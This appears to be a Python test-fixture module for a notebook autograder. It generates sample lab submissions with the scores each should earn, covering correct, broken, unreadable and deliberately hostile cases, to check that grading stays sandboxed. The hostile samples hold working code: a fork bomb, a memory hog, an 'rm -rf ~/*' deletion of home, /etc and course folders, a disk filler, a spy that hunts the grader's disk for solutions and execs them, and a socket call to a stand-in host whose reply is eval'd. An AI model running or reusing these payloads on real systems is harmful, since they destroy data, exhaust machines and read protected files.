"""A sample class: submissions of a lab, and what each deserves by the way it is made.

They are made from the lab itself, so they follow it when it changes: "right" is its reference
solution, "partial" leaves two functions out, and what a sample deserves is counted from the points
of the functions that it still gets right.
"""

from __future__ import annotations

import ast
import copy
import json
import re
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
from nbformat.notebooknode import NotebookNode
from nbformat.v4 import new_code_cell, new_notebook

from autograder.build.cells import grade_id, is_manual, is_test, points
from autograder.build.student import student_notebook
from autograder.restore import is_student_code
from autograder.results import GRADED, NEEDS_MANUAL, UNREADABLE
from autograder.samples_lab1 import OTHERWISE

_NEVER_ENDS = "while True:\n        pass"
_ANSWER = "Because the loss rises a little in every pixel, and there are many pixels."


@dataclass(frozen=True)
class Sample:
    """One submission.

    Attributes:
        story: what its author did.
        data: the file; None: an empty folder.
        deserves: automatic points.
        place: where it lies among the submissions, with {lab} for the lab's name.
        hostile: not to be run without a sandbox.
    """

    name: str
    story: str
    data: bytes | None
    deserves: float
    status: str = NEEDS_MANUAL
    place: str = "{name}/{lab}.ipynb"
    hostile: bool = False


@dataclass
class Kit:
    """What samples are made of.

    Args:
        assignment: the instructor's notebook of the lab.
        secret: a file on this machine that no submission must be able to read.
    """

    assignment: NotebookNode
    secret: Path
    solutions: dict[str, str] = field(init=False)

    def __post_init__(self) -> None:
        cells = [cell for cell in self.assignment.cells if is_student_code(cell)]
        marks = re.compile(r"^\s*### (?:BEGIN|END) SOLUTION\n?", re.MULTILINE)
        self.solutions = {grade_id(cell): marks.sub("", cell.source) for cell in cells}

    @property
    def total(self) -> float:
        return sum(points(cell) for cell in self.assignment.cells if is_test(cell))

    def points_of(self, function: str) -> float:
        """Of all its check cells: test_f, test_f_2, …"""
        return sum(
            points(cell)
            for cell in self.assignment.cells
            if is_test(cell) and checked_function(grade_id(cell), self.solutions) == function
        )

    def alone(self, number: int) -> str:
        """A function that no other solution calls, so that breaking it costs its own points only."""
        called = {
            node.id
            for name, code in self.solutions.items()
            for node in ast.walk(ast.parse(code))
            if isinstance(node, ast.Name) and node.id != name
        }
        free = [name for name in self.solutions if name not in called]
        return free[number % len(free)]

    def solved(self, **codes: str) -> NotebookNode:
        """The student's notebook with the solutions in it, or the code that is given in their place."""
        notebook = student_notebook(self.assignment)
        for cell in notebook.cells:
            name = grade_id(cell)
            if is_student_code(cell):
                cell.source = codes.get(name, self.solutions[name])
            elif name and is_manual(cell):
                cell.source = f"<!-- @{name} -->\n{_ANSWER}"
        return notebook

    def body(self, function: str, statements: str) -> str:
        """The solution of a function with `statements` run first in it."""
        inside = "\n".join(f"    {line}" for line in statements.splitlines())
        return (
            f"# @{function}\n{ast.unparse(ast.parse(self.solutions[function]))}\n\n"
            f"_written_{function} = {function}\n\n\n"
            f"def {function}(*arguments, **options):\n{inside}\n"
            f"    return _written_{function}(*arguments, **options)\n"
        )


def checked_function(check: str, functions: dict[str, str]) -> str:
    """The function that a check cell is about: of `test_f` and `test_f_2` it is f."""
    found = [f for f in functions if re.fullmatch(rf"test_{re.escape(f)}(_\d+)?", check)]
    return max(found, key=len) if found else ""


def sample_class(assignment: NotebookNode, lab: str, secret: Path) -> list[Sample]:
    """Some twenty-five submissions of a lab.

    Args:
        secret: a file that holds the solutions, for the spy to look for.
    """
    kit = Kit(assignment, secret)
    return [*_honest(kit, lab), *_broken(kit), *_unreadable(kit), *_hostile(kit)]


def _bytes(notebook: NotebookNode) -> bytes:
    return nbformat.writes(notebook, version=4).encode("utf-8")


def _with_cells(notebook: NotebookNode, *codes: str, at: int | None = None) -> NotebookNode:
    where = len(notebook.cells) if at is None else at
    notebook.cells[where:where] = [new_code_cell(code) for code in codes]
    return notebook


def _honest(kit: Kit, lab: str) -> list[Sample]:
    everything = kit.total
    otherwise = {
        **{f: _as_closure(f, code) for f, code in kit.solutions.items()},
        **OTHERWISE.get(lab, {}),
    }
    noisy = {f: kit.body(f, _NOISE) for f in kit.solutions}
    two = [kit.alone(0), kit.alone(1)]
    stub = student_notebook(kit.assignment)
    blank = {grade_id(cell): cell.source for cell in stub.cells if grade_id(cell) in two}
    return [
        Sample("right", "the reference solution", _bytes(kit.solved()), everything),
        Sample(
            "otherwise",
            "right, written another way",
            _bytes(kit.solved(**otherwise)),
            everything,
            place="{name}/{lab}/{lab}.ipynb",
        ),
        Sample(
            "noisy",
            "right; prints, warns, logs to stderr, shows a progress bar and a plot",
            _bytes(_with_cells(kit.solved(**noisy), _PLOT)),
            everything,
            place="{name}_{lab}.ipynb",
        ),
        Sample(
            "restless",
            "right; changes folder, seeds, the random state, warnings; leaves threads running",
            _bytes(_with_cells(kit.solved(), _RESTLESS, at=1)),
            everything,
        ),
        Sample(
            "partial",
            f"left {two[0]} and {two[1]} unwritten",
            _bytes(kit.solved(**blank)),
            everything - sum(map(kit.points_of, set(two))),
        ),
        Sample(
            "stripped",
            "right; the editor lost all cell metadata and ids",
            _stripped(kit.solved()),
            everything,
            place="{name}/Copy of {lab} (2).ipynb",
        ),
        Sample("blank", "handed in as released", _bytes(stub), 0.0, status=GRADED),
    ]


def _broken(kit: Kit) -> list[Sample]:
    everything, points_of = kit.total, kit.points_of
    one, other, third, fourth = (kit.alone(i) for i in range(4))
    shuffled = kit.solved()
    shuffled.cells = [c for c in shuffled.cells if not is_test(c)][::-1]
    without = kit.solved()
    without.cells = [cell for cell in without.cells if grade_id(cell) != other]
    loop = kit.body(third, _NEVER_ENDS)
    accents = _with_cells(kit.solved(), "été = 'déjà vu'  # naïve")
    return [
        Sample(
            "typo",
            f"a syntax error in {one}",
            _bytes(kit.solved(**{one: f"# @{one}\ndef {one}(\n    return 1"})),
            everything - points_of(one),
        ),
        Sample(
            "missing",
            f"deleted the cell of {other}",
            _bytes(without),
            everything - points_of(other),
        ),
        Sample(
            "shuffled",
            "right; check cells deleted, the rest upside down",
            _bytes(shuffled),
            everything,
        ),
        Sample(
            "endless",
            f"{third} never ends",
            _bytes(kit.solved(**{third: loop})),
            everything - points_of(third),
        ),
        Sample(
            "forever",
            "right; an experiment of their own never ends and ignores interrupts",
            _bytes(_with_cells(kit.solved(), _STUBBORN, at=1)),
            everything,
        ),
        Sample(
            "bottomless",
            f"{fourth} calls itself for ever",
            _bytes(
                kit.solved(
                    **{fourth: f"# @{fourth}\ndef {fourth}(*a, **b):\n    return {fourth}(*a, **b)"}
                )
            ),
            everything - points_of(fourth),
        ),
        Sample(
            "latin1",
            "right; saved as Latin-1",
            _latin1(accents),
            everything,
            place="{name}_{lab}.ipynb",
        ),
        Sample(
            "oldformat", "right; saved in notebook format 3", _format3(kit.solved()), everything
        ),
        Sample(
            "quitter",
            f"{one} ends the process (os._exit)",
            _bytes(kit.solved(**{one: kit.body(one, "import os\nos._exit(0)")})),
            everything - points_of(one),
        ),
    ]


def _unreadable(kit: Kit) -> list[Sample]:
    right = _bytes(kit.solved())
    foreign = _bytes(new_notebook(cells=[new_code_cell("print('my other course')")]))
    return [
        Sample(
            "cutoff", "the upload broke off half way", right[: len(right) // 2], 0.0, UNREADABLE
        ),
        Sample("empty", "an empty file", b"", 0.0, UNREADABLE),
        Sample("elsewhere", "the notebook of another course", foreign, 0.0, UNREADABLE),
    ]


def _hostile(kit: Kit) -> list[Sample]:
    everything, points_of = kit.total, kit.points_of
    one, other, third, fourth = (kit.alone(i) for i in range(4))
    spy = _SPY.format(secret=str(kit.secret), function=other)
    net = _NETWORK.format(function=third)
    return [
        Sample(
            "hog",
            f"{one} takes memory without end",
            _bytes(kit.solved(**{one: kit.body(one, _HOG)})),
            everything - points_of(one),
            hostile=True,
        ),
        Sample(
            "bomb",
            "right; a fork bomb in a cell of their own",
            _bytes(_with_cells(kit.solved(), _BOMB, at=1)),
            everything,
            hostile=True,
        ),
        Sample(
            "vandal",
            "right; deletes the home folder, the course and the package",
            _bytes(_with_cells(kit.solved(), _VANDAL.format(secret=str(kit.secret)), at=1)),
            everything,
            hostile=True,
        ),
        Sample(
            "spy",
            f"{other} looks for the solutions on the grader's disk",
            _bytes(kit.solved(**{other: f"# @{other}\n{spy}"})),
            everything - points_of(other),
            hostile=True,
        ),
        Sample(
            "caller",
            f"{third} fetches its answer over the network",
            _bytes(kit.solved(**{third: f"# @{third}\n{net}"})),
            everything - points_of(third),
            hostile=True,
        ),
        Sample(
            "flood",
            "right; prints 200 MB",
            _bytes(_with_cells(kit.solved(), _FLOOD, at=1)),
            everything,
            hostile=True,
        ),
        Sample(
            "filler",
            f"{fourth} fills the disk",
            _bytes(kit.solved(**{fourth: kit.body(fourth, _FILLER)})),
            everything - points_of(fourth),
            hostile=True,
        ),
    ]


def _as_closure(function: str, code: str) -> str:
    """The same work behind another shape: a class, a bound method, a name."""
    tree = ast.parse(code)
    if not any(isinstance(node, ast.FunctionDef) and node.name == function for node in tree.body):
        return code
    body = "\n".join(f"    {line}" for line in ast.unparse(tree).splitlines())
    body = body.replace(f"    def {function}(", f"    @staticmethod\n    def {function}(", 1)
    return f"# @{function}\nclass _Mine:\n{body}\n\n\n{function} = _Mine.{function}\n"


def _stripped(notebook: NotebookNode) -> bytes:
    content = json.loads(nbformat.writes(notebook, version=4))
    for cell in content["cells"]:
        cell["metadata"] = {}
        cell.pop("id", None)
    content["metadata"] = {"colab": {"provenance": []}}
    content["nbformat_minor"] = 0
    return json.dumps(content).encode("utf-8")


def _latin1(notebook: NotebookNode) -> bytes:
    text = json.dumps(json.loads(nbformat.writes(notebook, version=4)), ensure_ascii=False)
    return text.encode("latin-1", errors="replace")


def _format3(notebook: NotebookNode) -> bytes:
    cells = []
    for cell in copy.deepcopy(notebook).cells:
        kind = {"cell_type": cell.cell_type, "metadata": dict(cell.metadata)}
        if cell.cell_type == "code":
            kind |= {"input": cell.source, "language": "python", "outputs": [], "collapsed": False}
        else:
            kind["source"] = cell.source
        cells.append(kind)
    content = {
        "metadata": {"name": ""},
        "nbformat": 3,
        "nbformat_minor": 0,
        "worksheets": [{"cells": cells}],
    }
    return json.dumps(content).encode("utf-8")


_NOISE = """\
import logging, sys, warnings
print("at it")
print("at it", file=sys.stderr)
warnings.warn("I am not sure about this")
logging.getLogger().warning("still at it")
from tqdm.auto import tqdm
for _ in tqdm(range(3)):
    pass"""

_PLOT = """\
import matplotlib.pyplot as plt
plt.plot([0, 1], [0, 1])
plt.show()"""

_RESTLESS = """\
import os, random, threading, time, warnings
os.chdir("/tmp")
random.seed(1)
warnings.simplefilter("error")
x = y = model = check = None
for _ in range(3):
    threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()"""

_STUBBORN = """\
import time
while True:
    try:
        while True:
            time.sleep(0.01)
    except BaseException:
        pass"""

_HOG = """\
kept = []
while True:
    kept.append(bytearray(20_000_000))"""

_BOMB = """\
import os
while True:
    try:
        os.fork()
    except OSError:
        pass"""

_VANDAL = """\
import os, shutil
import course_utils
os.system("rm -rf ~/* ~/.[a-z]* 2> /dev/null")
for path in (os.path.dirname({secret!r}), os.path.dirname(course_utils.__file__), "/etc", "/dev/shm"):
    shutil.rmtree(path, ignore_errors=True)
    assert path == "/dev/shm" or os.system("touch " + path + "/here 2> /dev/null") != 0"""

_SPY = """\
import glob, json, os
def {function}(*arguments, **options):
    course = os.path.dirname(os.path.dirname(os.path.dirname({secret!r})))
    seen = glob.glob(course + "/**/*.ipynb", recursive=True) + glob.glob("/home/**/*.ipynb", recursive=True)
    for path in [{secret!r}, *seen]:
        if os.access(path, os.R_OK) and path.endswith(".ipynb"):
            for cell in json.load(open(path))["cells"]:
                source = "".join(cell["source"])
                if "def {function}(" in source and "NotImplementedError" not in source:
                    exec(source, globals())
                    return globals()[{function!r}](*arguments, **options)
    raise FileNotFoundError("nothing to copy from")"""

_NETWORK = """\
def {function}(*arguments, **options):
    import socket
    with socket.create_connection(("198.51.100.7", 80), timeout=3) as line:
        return eval(line.recv(1000))"""

_FLOOD = """\
for _ in range(200):
    print("x" * 1_000_000)"""

_FILLER = """\
for number in range(1000):
    with open(f"filler{number}", "wb") as file:
        file.write(bytes(10_000_000))"""
